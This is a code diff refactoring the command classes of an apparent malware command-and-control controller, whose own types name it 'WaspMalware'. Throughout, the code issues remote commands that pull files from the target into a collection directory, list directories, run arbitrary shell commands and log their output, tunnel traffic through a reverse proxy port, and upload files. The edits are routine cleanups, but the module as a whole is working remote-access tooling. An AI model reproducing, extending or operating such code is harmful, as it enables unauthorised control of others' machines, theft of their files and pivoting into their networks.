@@ -1,14 +1,22 @@
 #!/usr/bin/env python3
 from __future__ import annotations
-from typing import Dict, List, Optional
+from typing import BinaryIO, ContextManager, Dict, List, Optional
 from pathlib import Path
 import logging
 import base64
-from wasp_types import WaspCommand, WaspResponse, WaspMalware, logger, WaspCommandClass, WaspCommandChunked
+from wasp_types import WaspCommand, WaspResponse, WaspMalware, logger, WaspCommandClass, WaspCommandChunked, decode_output, open_atomically
+
+def as_path(path: Path | str) -> Path:
+    """ Commands accept paths as strings from the UI or JSON, only build a Path when needed """
+    return path if isinstance(path, Path) else Path(path)
 
 @WaspCommandClass
 class WaspCommandHandshake(WaspCommand):
+    __slots__ = ()
     name: str = "handshake"
+    # Every handshake is identical, so it is only serialised once
+    packed_handshake: Optional[bytes] = None
+
     def __init__(self, wasp = None) -> None:
         super().__init__(wasp)
 
@@ -17,20 +25,29 @@ class WaspCommandHandshake(WaspCommand):
             "uri": self.name
         }
 
+    def pack(self) -> bytes:
+        if WaspCommandHandshake.packed_handshake is None:
+            WaspCommandHandshake.packed_handshake = super().pack()
+        return WaspCommandHandshake.packed_handshake
+
 @WaspCommandClass
 class WaspCommandDownload(WaspCommand):
+    __slots__ = ('path', 'breakpoint', 'start', 'end')
     name: str = "download"
     path: Path
-    breakpoint: bool = True
-    start: int = 0
-    end: int = 1024
-
+    breakpoint: bool
+    start: int
+    end: int
 
     def __init__(self, wasp: WaspMalware, path: Path | str) -> None:
         super().__init__(wasp)
-        if isinstance(path, str):
-            path = Path(path)
-        self.path = path
+        self.path = as_path(path)
+        self.breakpoint = True
+        self.start = 0
+        self.end = 1024
+
+    def __repr__(self) -> str:
+        return f"{type(self).__name__}(path={self.path})"
 
     def get_dict(self) -> Dict:
         return {
@@ -52,26 +69,39 @@ class WaspCommandDownload(WaspCommand):
         command: WaspCommand = cls(wasp, path)
         return command
 
-    def handle_response(self, response: WaspResponse):
+    @property
+    def destination(self) -> Path:
         # TODO: Handle Windows??
-        destination_directory = self.wasp.collection_directory / "files" / Path(str(self.path)[1:]).parent
-        destination_directory.mkdir(parents=True, exist_ok=True)
-        destination = destination_directory / self.path.name
+        return self.wasp.collection_directory / "files" / self.path.relative_to(self.path.anchor)
+
+    def open_chunk_sink(self) -> Optional[ContextManager[BinaryIO]]:
+        destination = self.destination
+        destination.parent.mkdir(parents=True, exist_ok=True)
+        # Only replace an earlier copy once the whole file has arrived
+        return open_atomically(destination)
+
+    def handle_response(self, response: WaspResponse):
+        if response.chunked:
+            # Already streamed to disk by open_chunk_sink
+            return
+        destination = self.destination
+        destination.parent.mkdir(parents=True, exist_ok=True)
         destination.write_bytes(response.data)
 
 
 @WaspCommandClass
 class WaspCommandFileList(WaspCommand):
+    __slots__ = ('path',)
     name: str = 'filelist'
     path: Path
     logger: logging.Logger = logger.getChild('WaspCommandFileList')
 
     def __init__(self, wasp: WaspMalware, path: Path | str) -> None:
         super().__init__(wasp)
-        if isinstance(path, str):
-            path = Path(path)
-        self.path = path
+        self.path = as_path(path)
 
+    def __repr__(self) -> str:
+        return f"{type(self).__name__}(path={self.path})"
 
     def get_dict(self) -> Dict:
         return {
@@ -89,7 +119,7 @@ class WaspCommandFileList(WaspCommand):
 
     def handle_response(self, response: WaspResponse):
         listing_text: str = response.data.decode('utf-8')
-        self.logger.info(f"\nIs File\tSize\tName\n{listing_text}")
+        self.logger.info("\nIs File\tSize\tName\n%s", listing_text)
 
         date_stamp = self.generated_date.strftime("%Y%m%d_%H%M%S")
         destination_directory = self.wasp.collection_directory / "directory_listings"
@@ -100,6 +130,7 @@ class WaspCommandFileList(WaspCommand):
 
 @WaspCommandClass
 class WaspCommandExecute(WaspCommand):
+    __slots__ = ('command',)
     name: str = 'command'
     command: str
     logger: logging.Logger = logger.getChild("Execute")
@@ -107,6 +138,9 @@ class WaspCommandExecute(WaspCommand):
         super().__init__(wasp)
         self.command = command
 
+    def __repr__(self) -> str:
+        return f"{type(self).__name__}(command={self.command!r})"
+
     def get_dict(self) -> Dict:
         return {
             "uri": self.name,
@@ -122,13 +156,9 @@ class WaspCommandExecute(WaspCommand):
         return command
 
     def handle_response(self, response: WaspResponse):
-        output: Optional[bytes | str] = None
-        try:
-            output = response.data.decode('utf-8')
-        except UnicodeDecodeError:
-            output = base64.b64encode(response.data).decode('utf-8')
-        self.logger.info(f"Command: {self.command}")
-        self.logger.info(f"Result: {output}")
+        output: Optional[bytes | str] = decode_output(response.data)
+        self.logger.info("Command: %s", self.command)
+        self.logger.info("Result: %s", output)
         return output
 
 @WaspCommandClass
@@ -137,6 +167,7 @@ class WaspCommandProxy(WaspCommand):
     "destination_host" on "destination_port", and forwards data between the two.
     When either socket closes, the tunnel is terminated.
     """
+    __slots__ = ('destination_host', 'destination_port', 'reverse_port')
     name: str = "proxy"
     logger: logging.Logger = logger.getChild("Proxy")
 
@@ -170,10 +201,11 @@ class WaspCommandProxy(WaspCommand):
         return command
 
     def handle_response(self, response: WaspResponse):
-        self.logger.info(f"Proxying {self.reverse_port} to {self.destination_host}:{self.destination_port}")
+        self.logger.info("Proxying %s to %s:%s", self.reverse_port, self.destination_host, self.destination_port)
 
 @WaspCommandClass
 class WaspCommandUpload(WaspCommandChunked):
+    __slots__ = ('path', 'file_content')
     name: str = "upload"
 
     path: Path
@@ -188,6 +220,9 @@ class WaspCommandUpload(WaspCommandChunked):
         self.path = path
         self.file_content = file_content
 
+    def __repr__(self) -> str:
+        return f"{type(self).__name__}(path={self.path}, size={len(self.file_content)})"
+
     def get_dict(self) -> Dict:
         return {
             'uri': self.name,
@@ -207,7 +242,7 @@ class WaspCommandUpload(WaspCommandChunked):
         return command
 
     def handle_response(self, response: WaspResponse):
-        self.logger.info(f"Uploaded {len(self.file_content)} to {self.path}")
+        self.logger.info("Uploaded %s to %s", len(self.file_content), self.path)
     
     def get_data(self) -> bytes:
         return self.file_content